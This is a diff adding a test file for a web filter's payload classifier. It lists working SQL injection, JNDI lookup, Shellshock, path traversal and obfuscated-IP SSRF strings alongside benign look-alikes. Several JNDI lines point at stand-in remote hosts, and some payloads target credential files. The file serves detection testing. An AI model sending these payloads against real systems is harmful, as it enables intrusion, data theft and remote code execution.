@@ -1,0 +1,110 @@
+// Payload verdicts (filter/core/payloads.ts): classic payloads recognised by their grammar score 1
+// in their class and overall, whatever the model makes of what surrounds them; the benign shapes
+// closest to each (SQL quoted in a forum post, code, commands in prose, a site's own paths,
+// timestamps and plain URLs) are left to the model.
+import { beforeAll, describe, expect, it } from "vitest";
+import { type Core, loadCore } from "../support/core";
+
+let core: Core;
+beforeAll(async () => { core = await loadCore(); expect(core.configure("")).toBeNull(); });
+
+type Case = [string, string];
+
+const SQLI: Case[] = [
+  ["query", "id=0%20UNION%20SELECT%20AES_DECRYPT(AES_ENCRYPT(CONCAT(0x7873716C,(SELECT%20COLUMN_NAME%20FROM%20INFORMATION_SCHEMA.COLUMNS%20LIMIT%201)),0x71),0x71)"],
+  ["query", "uid=999999.9'%09union%0D%0Aall%0D%0Aselect%0D%0A0x3130,0x3130"],
+  ["body:form", "q=1)/**/UnIoN/**/(SeLeCt/**/1,2)"],
+  ["body:json", JSON.stringify({ id: "x\" union distinct select password from users--" })],
+  ["header:Cookie", "remember_me=0%20UNION%20SELECT%20user()"],
+  ["path", "/api/v1/users/0%20UNION%20SELECT%201,2"],
+  ["query", "id=1%20and%20sleep(5)"],
+  ["query", "id=1'%20AND%20BENCHMARK(5000000,MD5(1))--"],
+  ["body:form", "q=x'+and+extractvalue(1,concat(0x7e,version()))--"],
+  ["query", "id=1;waitfor%20delay%20'0:0:5'--"],
+  ["query", "id=1%20AND%20pg_sleep(5)"],
+];
+const NOT_SQLI: Case[] = [
+  ["body:form", "post=" + encodeURIComponent("How do I speed up this query?\n\nSELECT a.id FROM a UNION SELECT b.id FROM b;")],
+  ["query", "q=trade+union+selection+committee"],
+  ["query", "q=credit+union"],
+  ["body:json", JSON.stringify({ code: "await sleep(500)" })],
+  ["body:json", JSON.stringify({ code: "import time\ntime.sleep(5)" })],
+];
+
+const JNDI: Case[] = [
+  ["header:User-Agent", "${jNdI:ldAp://x.dnslog.cn/a}"],
+  ["header:X-Api-Version", "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}"],
+  ["header:Referer", "https://example.com/?q=${${lower:J}ndi:ldap://x.example/a}"],
+  ["query", "q=${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x.example/a}"],
+  ["body:form", "name=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D"],
+];
+const NOT_JNDI: Case[] = [
+  ["query", "gdpr=${GDPR}&consent=${GDPR_CONSENT}"],
+  ["body:json", JSON.stringify({ tpl: "Hello ${name}, you have ${count} messages" })],
+  ["body:json", JSON.stringify({ doc: "the jndi: prefix names a JNDI lookup" })],
+];
+
+const SHELLSHOCK: Case[] = [
+  ["header:User-Agent", "() { :;}; /bin/bash -c \"id\""],
+  ["header:Referer", "() { _; } >_[$($())] { echo hi; }"],
+  ["header:Cookie", "x=() { :; }; echo vulnerable"],
+];
+const NOT_SHELLSHOCK: Case[] = [
+  ["body:json", JSON.stringify({ code: "class A { render() { return 1; } }" })],
+  ["body:json", JSON.stringify({ code: "const f = () => {};" })],
+  ["body:json", JSON.stringify({ code: "x = function () { return 1; }" })],
+];
+
+const OS_FILE: Case[] = [
+  ["query", "file=/etc/passwd"],
+  ["query", "page=..%2f..%2f..%2fetc%2fpasswd%00"],
+  ["query", "doc=C:%5CWindows%5Cwin.ini"],
+  ["body:form", "f=WEB-INF/web.xml"],
+  ["query", "template=/opt/lampp/logs/error_log"],
+  ["query", "p=..%5C..%5Cboot.ini"],
+  ["header:Cookie", "lang=/var/log/apache2/access.log"],
+  ["body:json", JSON.stringify({ include: "/proc/self/environ" })],
+  ["path", "/static/..%2f..%2f..%2fetc/shadow"],
+];
+const NOT_OS_FILE: Case[] = [
+  ["body:form", "post=" + encodeURIComponent("Step 2: run tail -f /var/log/syslog then restart")],
+  ["query", "p=%2FWEB-INF%2Fmaster.jsp"],
+  ["path", "/collections/windows/products/chair"],
+  ["path", "/etc/hosts-file-guide"],
+  ["query", "log=error.log"],
+  ["header:Referer", "https://example.com/etc/passwd-reset"],
+];
+
+const IP_HOST: Case[] = [
+  ["query", "url=http://0x7f000001/"],
+  ["query", "next=http://3627734734/"],
+  ["query", "redirect=//0177.0.0.1/admin"],
+  ["query", "u=http://evil@0xd83ad6ce"],
+  ["body:form", "r=http:00330.0x3a.54990"],
+];
+const NOT_IP_HOST: Case[] = [
+  ["query", "url=https://192.168.1.10/"],
+  ["query", "url=https://example.com/2024/01"],
+  ["query", "t=12:30:45"],
+  ["query", "v=//cdn.example.com/x.js"],
+  ["query", "u=https://20241130.example.com/"],
+];
+
+describe.each([
+  ["sql-injection", "sqli", SQLI, NOT_SQLI],
+  ["jndi-lookup", "jndi", JNDI, NOT_JNDI],
+  ["shellshock", "rce", SHELLSHOCK, NOT_SHELLSHOCK],
+  ["os-file", "traversal", OS_FILE, NOT_OS_FILE],
+  // A redirect or a fetch: the class is the one of the two the model scored higher.
+  ["obfuscated-ip-host", "ssrf|open_redirect", IP_HOST, NOT_IP_HOST],
+] as Array<[string, string, Case[], Case[]]>)("%s payload verdicts", (_kind, cls, hits, misses) => {
+  const classScore = (s: ReturnType<Core["score"]>) => Math.min(...cls.split("|").map((c) => s.classes[c]));
+  it.each(hits)(`%s %j scores 1, class ${cls}`, (where, text) => {
+    const s = core.score(where, text);
+    expect(s.score).toBe(1);
+    expect(classScore(s)).toBe(1);
+  });
+  it.each(misses)("%s %j is left to the model", (where, text) => {
+    expect(classScore(core.score(where, text))).toBeGreaterThan(1);
+  });
+});
